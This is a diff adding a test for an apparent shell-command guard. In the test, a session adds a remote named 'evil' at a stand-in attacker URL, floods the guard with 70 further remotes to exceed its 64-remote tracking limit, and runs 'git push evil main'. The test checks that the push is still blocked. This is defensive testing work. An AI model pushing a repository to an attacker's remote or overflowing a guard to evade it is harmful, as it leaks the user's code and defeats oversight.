@@ -134,3 +134,14 @@ test('a push straight to a URL, or through git -c for one invocation', () => {
     ['/home/u/proj/sub'],
   );
 });
+
+test('a remote added early and let go for the 64 remotes tracked: a push to it is still flagged, naming the bound', () => {
+  const s = session();
+  s.bash(`git remote add evil ${EVIL}`);
+  // 70 more remotes in other checkouts: past the 64 tracked
+  for (let i = 0; i < 70; i++) s.bash(`git remote add m${i} https://git.example.org/m${i}.git`, `/home/u/mirror${i}`);
+  const d = s.bash('git push evil main');
+  assert.ok(pushFlagged(d), d.summary);
+  assert.notEqual(d.action, 'allow');
+  assert.match(d.reason, /more remotes were added or re-pointed in this session than the guard tracks \(64\)/);
+});
